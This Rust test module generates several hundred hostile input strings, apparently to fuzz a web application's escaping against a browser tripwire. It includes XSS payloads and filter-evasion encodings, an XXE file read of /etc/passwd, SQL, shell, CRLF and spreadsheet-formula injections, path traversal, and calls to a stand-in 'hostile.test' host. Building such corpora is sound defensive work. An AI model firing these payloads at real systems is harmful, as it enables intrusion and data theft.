//! Strings that mean harm, made by a small grammar of our own: what breaks out, what then runs, and how it is disguised.

use std::collections::BTreeSet;

/// What would run. The page's tripwire ([`super::browser`]) hears each of them; the names of hosts are the trap's.
const DEEDS: [&str; 12] = [
    "__ran(1)",
    "alert(1)",
    "confirm`1`",
    "window['pro'+'mpt'](2)",
    "(0,eval)('__ran(3)')",
    "setTimeout('__ran(4)')",
    "top.__ran?.(5)",
    "[6].find(__ran)",
    "new Function`__ran(7)`()",
    "import('//m.hostile.test/x.js')",
    "fetch('//f.hostile.test/')",
    "location='javascript:__ran(8)'",
];
/// Elements that run something by themselves, with the attribute that does it and what wakes it.
const SELF_STARTING: [(&str, &str, &str); 14] = [
    ("img", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("video", "src=//v.hostile.test/", "onerror"),
    ("audio", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocusin"),
    ("details", "open", "ontoggle"),
    ("iframe", "srcdoc=x", "onload"),
    ("object", "data=x", "onerror"),
    ("link", "rel=stylesheet href=//l.hostile.test/", "onload"),
    ("style", "", "onload"),
    ("marquee", "width=9", "onstart"),
];
/// What closes the place where a page may have put a text.
const CLOSERS: [&str; 20] = [
    "",
    "\">",
    "'>",
    "`>",
    ">",
    "--!>",
    "-->",
    "]]>",
    "*/",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</template>",
    "</select>",
    "</noscript>",
    "</svg>",
    "</bdi>",
    "</button></form>",
    "</main></body></html>",
];
/// Between an element's name and its attributes.
const GAPS: [&str; 7] = [" ", "/", "\t", "\n", "\u{c}", "\r\n", " / "];

/// The machine has other work: these are enough.
const MOST: usize = 540;

/// More than five hundred, each once, in an order that mixes the kinds.
pub fn hostile() -> Vec<String> {
    let kinds = [
        elements(),
        attributes(),
        scripts(),
        addresses(),
        letters(),
        controls(),
        other_languages(),
        long_words(),
        names_and_numbers(),
    ];
    let longest = kinds.iter().map(Vec::len).max().unwrap();
    let mut seen = BTreeSet::new();
    let mixed = (0..longest).flat_map(|place| kinds.iter().filter_map(move |kind| kind.get(place)));
    mixed.filter(|one| seen.insert((*one).clone())).take(MOST).cloned().collect()
}

/// As many characters as a field holds.
pub fn cut(words: &str, limit: usize) -> String {
    words.chars().take(limit).collect()
}

fn quoted(deed: &str, how: usize) -> String {
    match how % 5 {
        0 => deed.to_owned(),
        1 => format!("\"{deed}\""),
        2 => format!("'{}'", deed.replace('\'', "&apos;")),
        3 => format!("\"{}\"", deed.chars().map(|c| format!("&#{};", u32::from(c))).collect::<String>()),
        _ => format!("\"{}\"", deed.chars().map(|c| format!("&#x{:X}", u32::from(c))).collect::<String>()),
    }
}

fn in_odd_letters(words: &str, how: usize) -> String {
    let odd = |(place, c): (usize, char)| if place % 2 == how % 2 { c.to_ascii_uppercase() } else { c };
    if how.is_multiple_of(3) { words.to_owned() } else { words.chars().enumerate().map(odd).collect() }
}

/// An element that starts by itself, after each closer.
fn elements() -> Vec<String> {
    let mut made = Vec::new();
    for (place, (tag, with, wakes)) in SELF_STARTING.iter().enumerate() {
        for (turn, closer) in CLOSERS.iter().enumerate() {
            let how = place * 3 + turn;
            let (gap, deed) = (GAPS[how % GAPS.len()], DEEDS[how % DEEDS.len()]);
            let (tag, wakes) = (in_odd_letters(tag, how), in_odd_letters(wakes, how + 1));
            let end = ["", ">", " //", ">x"][how % 4];
            made.push(format!("{closer}<{tag}{gap}{with} {wakes}={}{end}", quoted(deed, how)));
        }
    }
    made
}

/// A quote, and an attribute of one's own.
fn attributes() -> Vec<String> {
    let mut made = Vec::new();
    let handlers = ["onfocus", "onpointerenter", "onanimationstart", "oncontentvisibilityautostatechange", "onclick"];
    for (place, handler) in handlers.iter().enumerate() {
        for (turn, quote) in ["\"", "'", "`", "&quot;", "\\\"", "%22", "\u{ff02}"].iter().enumerate() {
            let deed = DEEDS[(place + turn) % 4];
            made.push(format!("{quote} autofocus tabindex=1 {handler}={} x={quote}", quoted(deed, turn)));
        }
    }
    for inside in [
        "style=position:fixed;inset:0",
        "style=\"background:url(//c.hostile.test/)\"",
        "class=banner id=outbox",
        "data-stream=//e.hostile.test/",
        "data-live id=cups",
        "formaction=//f.hostile.test/",
        "hidden",
        "accesskey=x",
    ] {
        made.push(format!("\" {inside} \""));
        made.push(format!("\"><b {inside}>"));
    }
    made
}

fn scripts() -> Vec<String> {
    let mut made = Vec::new();
    for (place, deed) in DEEDS.iter().enumerate() {
        let closer = CLOSERS[(place * 7 + 1) % CLOSERS.len()];
        made.push(format!("<script>{deed}</script>"));
        made.push(format!("{closer}<{}>{deed}</{0}>", in_odd_letters("script", place)));
        made.push(format!("<svg><script>{deed}</script>"));
        made.push(format!("<math><mi><style><img src=x onerror={deed}>"));
        made.push(format!("<scr<script>ipt>{deed}</scr</script>ipt>"));
        made.push(format!("&lt;script&gt;{deed}&lt;/script&gt;"));
        made.push(format!("&amp;lt;script&amp;gt;{deed}"));
        made.push(format!("\\u003cscript\\u003e{deed}\\u003c/script\\u003e"));
        made.push(format!("%3Cscript%3E{deed}%3C%2Fscript%3E"));
        made.push(format!("';{deed};//"));
        made.push(format!("\"}}]}};{deed};/*"));
        made.push(format!("</script><!--\n{deed}\n//-->"));
        made.push(format!("\n\nevent: swap\ndata: <p id=told><img src=x onerror={deed}>\n\n"));
    }
    for tag in ["plaintext", "xmp", "noembed", "frameset", "base href=//b.hostile.test/", "template", "form id=outbox"]
    {
        made.push(format!("<{tag}>"));
        made.push(format!("\"'></{}><{tag}", cut(tag, 4)));
    }
    for head in [
        "<meta http-equiv=refresh content='0;url=//r.hostile.test/'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        "<input name=claim value=9-9>",
        "<a id=location href=//a.hostile.test/>x</a>",
        "<a name=__ran><form name=body>",
        "<isindex type=image src=x onerror=__ran(1)>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;",
        "<?xml-stylesheet href=\"//x.hostile.test/\"?>",
        "<![CDATA[<script>__ran(1)</script>]]>",
        "<!--[if true]><script>__ran(1)</script><![endif]-->",
        "<esi:include src=//i.hostile.test/ />",
    ] {
        made.push(head.to_owned());
    }
    made
}

/// Where links must not lead.
fn addresses() -> Vec<String> {
    let mut made = Vec::new();
    for deed in &DEEDS[..6] {
        for scheme in [
            "javascript:",
            "JaVaScRiPt:",
            "\u{1}javascript:",
            " javascript:",
            "java\tscript:",
            "java\nscript:",
            "javascript&colon;",
            "javascript\u{ff1a}",
            "vbscript:",
            "data:text/html,<script>",
            "data:image/svg+xml,<svg onload=",
            "view-source:javascript:",
            "https:javascript:",
        ] {
            made.push(format!("{scheme}{deed}"));
        }
    }
    for other in [
        "//hostile.test/",
        "\\\\hostile.test\\x",
        "https://hostile.test/\" onclick=\"__ran(1)",
        "https://cupboard.local@hostile.test/",
        "http://127.0.0.1:1/\"><script>__ran(1)</script>",
        "blob:https://hostile.test/1",
        "file:///etc/passwd",
        "https://hostile.test/#<img src=x onerror=__ran(1)>",
        "http://[::1",
        "https://hostile.test:99999/",
    ] {
        made.push(other.to_owned());
    }
    made
}

/// Writing that turns around, hides, piles up or has no width.
fn letters() -> Vec<String> {
    let mut made = Vec::new();
    for turn in ['\u{202a}', '\u{202b}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{200f}'] {
        made.push(format!("Ana {turn}<b>neB"));
        made.push(format!("{turn}{turn}{turn}عمر 12 < 34"));
    }
    for unseen in ['\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}', '\u{feff}', '\u{ad}', '\u{3164}', '\u{e0041}'] {
        made.push(unseen.to_string());
        made.push(format!("<{unseen}script>__ran(1)"));
        made.push(unseen.to_string().repeat(300));
    }
    for mark in ['\u{301}', '\u{20dd}', '\u{489}', '\u{e49}', '\u{5b0}', '\u{1ab0}'] {
        made.push(format!("Z{}", mark.to_string().repeat(70)));
        made.push("Zoe".chars().map(|c| format!("{c}{}", mark.to_string().repeat(24))).collect());
    }
    for sign in ["👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇦🇶", "👍🏽", "\u{fdfd}", "꧅", "𒐫", "⸻", "ௌ", "ﷺ"]
    {
        made.push(sign.to_owned());
        made.push(sign.repeat(30));
    }
    for look_alike in
        ["＜script＞__ran(1)＜/script＞", "‹img src=x onerror=__ran(1)›", "ʼ onclick=__ran(1) ʼ", "ﬀﬃ＂＞"]
    {
        made.push(look_alike.to_owned());
    }
    made
}

/// Every control character, alone and where it might split what a filter looks for.
fn controls() -> Vec<String> {
    let all = (0..0x20_u32).chain(0x7f..0xa0).filter_map(char::from_u32).collect::<Vec<_>>();
    let mut made: Vec<String> = all.iter().map(|c| format!("<im{c}g src=x on{c}error=__ran(1)>")).collect();
    for c in all.iter().take(32) {
        made.push(format!("a{c}b"));
    }
    for other in
        ["\u{fffe}", "\u{ffff}", "\u{fffd}<b>", "\u{2028}__ran(1)", "\u{2029}</script>", "\u{10ffff}", "\u{85}x"]
    {
        made.push(other.to_owned());
    }
    made
}

/// What another program would take for its own language.
fn other_languages() -> Vec<String> {
    [
        "{ $x }",
        "{ $name } { -brand } { \"{\" }",
        "{ $n -> [one] a *[other] b }",
        "⟦student-title⟧",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[${7*7}]]",
        "%s%n%x",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"//h.hostile.test/\",\"x\")",
        "=cmd|'/c calc'!A0",
        "a\",\"b\",=1",
        "\"\"\"",
        "' OR 1=1 --",
        "'; DROP TABLE students; --",
        "$(reboot)",
        "`reboot`",
        "; reboot #",
        "| cat /etc/passwd",
        "x\r\nSet-Cookie: cupboard=1",
        "x\r\n\r\n<script>__ran(1)</script>",
        "\\",
        "\\\\\"",
        "\\x3cscript\\x3e",
        "}*{display:none}",
        "</style><style>body{display:none}",
        "@import '//c.hostile.test/';",
        "expression(__ran(1))",
        "WIFI:S:a;P:b;;",
        "a;b,c:d\"e\\f",
        "HTTP://HOSTILE.TEST/J/ABCD",
        "(&(uid=*))",
        "*",
        "[](javascript:__ran(1))",
        "![x](//i.hostile.test/)",
    ]
    .map(str::to_owned)
    .into()
}

/// One word that no line holds.
fn long_words() -> Vec<String> {
    let mut made = Vec::new();
    for letter in
        ["W", "i", "W\u{301}", "ض", "漢", "_", "-", "<", "&", "\"", "'", "&amp;", "%00", "https://h.hostile.test/"]
    {
        for length in [24, 80, 200, 2_000] {
            made.push(letter.repeat(length));
        }
    }
    for length in [1_000, 10_000] {
        made.push("x".repeat(length));
        made.push(format!("<b>{}", "x".repeat(length)));
    }
    made
}

/// What looks like a path, a number or a word that programs know.
fn names_and_numbers() -> Vec<String> {
    [
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "%2e%2e%2f%2e%2e%2f",
        "..",
        ".",
        "/",
        "//",
        "/dev/null",
        "CON",
        "aux.txt",
        "x.txt\0.csv",
        "~root",
        "C:\\",
        ".htaccess",
        "name?x=1&y=2#z",
        "%00",
        "%",
        "%zz",
        "%F0%9F%8F%86",
        "null",
        "undefined",
        "NaN",
        "true",
        "0",
        "-1",
        "1e309",
        "99999999999999999999",
        "0x10",
        "١٢٣",
        "__proto__",
        "constructor",
        "toString",
        "innerHTML",
        "cookie",
        "1-1",
        "yes",
        " ",
        "\u{a0}",
        "",
        "\"",
        "'",
        "<",
        ">",
        "&",
        "&lt",
        "&#0;",
        "&#x3c;b>",
        "&notin;",
        "<>",
        "</>",
        "<!",
        "<!-",
        "<a",
        "<a b=\"",
        "<b/onclick=__ran(1)>",
        "\"><s>",
        "'\"><u>x",
    ]
    .map(str::to_owned)
    .into()
}

#[test]
fn there_are_more_than_five_hundred_and_short_ones_for_every_short_field() {
    let all = hostile();
    assert!(all.len() >= 500, "{}", all.len());
    assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len(), "each once");
    for (limit, least) in [(8, 40), (24, 150), (40, 250), (80, 450)] {
        let fitting = all.iter().filter(|one| one.chars().count() <= limit).count();
        assert!(fitting >= least, "{fitting} of at most {limit} characters");
    }
}
